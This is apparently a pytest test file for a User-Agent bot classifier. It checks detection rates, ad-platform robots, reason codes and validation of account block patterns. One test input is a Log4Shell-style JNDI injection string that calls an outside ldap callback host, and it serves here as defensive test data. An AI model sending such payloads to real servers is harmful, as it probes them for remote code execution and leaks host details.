"""libs/bots.py on real User-Agents collected from public sources (tests/data/quality/README.md).

The bot lists are independent of the detectors libs/bots.py uses: Crawler-Detect's
patterns are measured on monperrus/crawler-user-agents' examples and on
device-detector's bot fixtures, never on Crawler-Detect's own crawler list.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from libs import bots, quality

DATA = Path(__file__).resolve().parents[1] / "data" / "quality"


def load(name: str) -> list[str]:
    lines = (DATA / name).read_text(encoding="utf-8").splitlines()
    return [line for line in lines if not line.startswith("# ")]


def codes(ua: str) -> list[str]:
    return quality.codes_of(bots.classify_user_agent(ua))


@pytest.mark.parametrize("name", ["bots_device_detector.txt", "bots_crawler_user_agents.txt"])
def test_at_least_95_percent_of_real_bots_are_flagged(name: str) -> None:
    agents = load(name)
    assert len(agents) > 1000
    missed = [ua for ua in agents if bots.classify_user_agent(ua) == 0]
    rate = 1 - len(missed) / len(agents)
    print(f"\n{name}: {rate:.2%} of {len(agents)} flagged; missed {len(missed)}:")
    for ua in missed:
        print("   ", ua)
    assert rate >= 0.95


@pytest.mark.parametrize("name", ["humans_device_detector.txt", "humans_crawler_detect.txt"])
def test_at_most_1_percent_of_real_people_are_flagged(name: str) -> None:
    agents = load(name)
    assert len(agents) >= 1000
    flagged = [(codes(ua), ua) for ua in agents if bots.classify_user_agent(ua)]
    rate = len(flagged) / len(agents)
    print(f"\n{name}: {rate:.2%} of {len(agents)} flagged:")
    for reasons, ua in flagged:
        print("   ", reasons, ua)
    assert rate <= 0.01


# Each ad-platform, ad-verification and link-preview robot the product must
# catch, by a name its real User-Agents carry in the collected lists.
AD_ROBOTS = [
    "AdsBot-Google",
    "AdsBot-Google-Mobile",
    "Mediapartners-Google",
    "Google-Adwords",
    "Google-Ads-",
    "Storebot-Google",
    "facebookexternalhit",
    "meta-externalagent",
    "Twitterbot",
    "LinkedInBot",
    "Slackbot",
    "TelegramBot",
    "WhatsApp",
    "Discordbot",
    "Applebot",
    "bingbot",
    "BingPreview",
    "DVbot",  # DoubleVerify
    "ias_crawler",  # Integral Ad Science
    "ias_wombles",
    "moatbot",
    "Pinterestbot",
    "Snap URL Preview",
]


@pytest.mark.parametrize("name", AD_ROBOTS)
def test_ad_platform_and_verification_robots_are_invalid(name: str) -> None:
    examples = [
        ua
        for ua in load("bots_device_detector.txt") + load("bots_crawler_user_agents.txt")
        if name.lower() in ua.lower()
    ]
    assert examples, f"no real {name} User-Agent in the collected lists"
    for ua in examples:
        mask = bots.classify_user_agent(ua)
        assert quality.verdict_of(mask) == quality.INVALID, (ua, codes(ua))


def test_a_click_from_an_ad_platform_crawler_is_not_clean() -> None:
    assert codes("AdsBot-Google (+http://www.google.com/adsbot.html)") == ["bot_user_agent"]


APP_AND_WEBVIEW = re.compile(
    r"Instagram|FBAN|FB_IAB|Line/|musical_ly|TikTok|Snapchat|GSA/|Dalvik/|CFNetwork|okhttp", re.IGNORECASE
)


def test_in_app_webviews_and_app_sdk_agents_stay_clean() -> None:
    agents = [ua for ua in load("humans_device_detector.txt") if APP_AND_WEBVIEW.search(ua)]
    # Instagram, Facebook, Line, TikTok, Snapchat, Google app webviews; Android
    # and iOS HTTP stacks: all present in the sample.
    for marker in ("Instagram", "FBAN", "Line/", "TikTok", "Snapchat", "Dalvik/", "CFNetwork", "okhttp"):
        assert any(marker.lower() in ua.lower() for ua in agents), marker
    assert [(codes(ua), ua) for ua in agents if bots.classify_user_agent(ua)] == []


@pytest.mark.parametrize(
    ("ua", "expected"),
    [
        # Specific codes rather than the generic bot one.
        ("curl/8.4.0", ["http_library"]),
        ("python-requests/2.31.0", ["http_library"]),
        ("Python/3.11 aiohttp/3.9.1", ["http_library"]),
        ("Go-http-client/2.0", ["http_library"]),
        ("Java/17.0.2", ["http_library"]),
        ("Apache-HttpClient/4.5.14 (Java/17.0.2)", ["http_library"]),
        ("axios/1.6.0", ["http_library"]),
        ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", ["http_library"]),
        ("libwww-perl/6.72", ["http_library"]),
        ("Wget/1.21.4", ["http_library"]),
        ("PostmanRuntime/7.36.0", ["http_library"]),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109"
            " Safari/537.36",
            ["headless_browser"],
        ),
        ("Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
         ["headless_browser"]),
        ("", ["missing_user_agent"]),
        ("   ", ["missing_user_agent"]),
        # No device, platform or engine named; garbage.
        ("Abcd", ["implausible_user_agent"]),
        ("Hello, world", ["implausible_user_agent"]),
        ("Mozilla/5.0 Keydrop", ["implausible_user_agent"]),
        ("${jndi:ldap://${hostName}.useragent.oast.live}", ["implausible_user_agent"]),
        # App SDK agents: the platform's HTTP stack on a person's phone.
        ("okhttp/4.9.2", []),
        ("Dalvik/2.1.0 (Linux; U; Android 13; SM-S918B Build/TP1A.220624.014)", []),
        ("MyGame/1.2.3 CFNetwork/1410.0.3 Darwin/22.6.0", []),
        ("TikTok 17.8.1 rv:178102 (iPhone; iOS 14.1; ja_JP) Cronet", []),
    ],
)  # fmt: skip
def test_reason_codes(ua: str, expected: list[str]) -> None:
    assert codes(ua) == expected


def test_verdicts_of_the_codes() -> None:
    assert quality.verdict_of(bots.classify_user_agent("curl/8.4.0")) == quality.INVALID
    assert quality.verdict_of(bots.classify_user_agent("")) == quality.INVALID
    assert quality.verdict_of(bots.classify_user_agent("Abcd")) == quality.SUSPICIOUS
    assert quality.verdict_of(bots.classify_user_agent("okhttp/4.9.2")) == quality.CLEAN


def test_repeated_user_agents_are_answered_from_the_cache() -> None:
    ua = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
    bots.classify_user_agent(ua)
    hits = bots.classify_user_agent.cache_info().hits
    assert bots.classify_user_agent(ua) == 0
    assert bots.classify_user_agent.cache_info().hits == hits + 1


def test_an_8kb_header_is_cut_not_choked_on() -> None:
    assert bots.classify_user_agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64) " + "A" * 8192) == 0


# ---- the account's own list


def test_user_agent_list_matches_case_insensitive_substrings() -> None:
    blocked = bots.UserAgentList(["HeadlessChrome", "  MyScraper/ ", "(compatible; Thing+1)"])
    assert blocked.patterns == ("(compatible; thing+1)", "headlesschrome", "myscraper/")
    assert blocked.matches("Mozilla/5.0 (X11) AppleWebKit/537.36 headlesschrome/120.0")
    assert blocked.matches("myscraper/2.0 (+https://example.com)")
    # Regex metacharacters are literal: "(" and "+" match themselves only.
    assert blocked.matches("Mozilla/5.0 (COMPATIBLE; Thing+1)")
    assert not blocked.matches("Mozilla/5.0 (compatible; Thingg1)")
    assert not blocked.matches("Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X)")
    assert not blocked.matches("")


def test_an_empty_user_agent_list_matches_nothing() -> None:
    empty = bots.UserAgentList([])
    assert not empty
    assert not empty.matches("curl/8.4.0")


@pytest.mark.parametrize(
    ("pattern", "message"),
    [
        ("", "empty"),
        ("   ", "empty"),
        ("x" * 257, "257 characters long: at most 256"),
        ("bad\x00agent", "control characters"),
        ("two\nlines", "control characters"),
    ],
)
def test_bad_user_agent_patterns_are_refused_saying_what_to_fix(pattern: str, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        bots.validate_user_agent_pattern(pattern)
    with pytest.raises(ValueError, match=message):
        bots.UserAgentList(["fine", pattern])


def test_a_good_pattern_is_trimmed() -> None:
    assert bots.validate_user_agent_pattern("  HeadlessChrome ") == "HeadlessChrome"
    assert bots.validate_user_agent_pattern("x" * 256) == "x" * 256
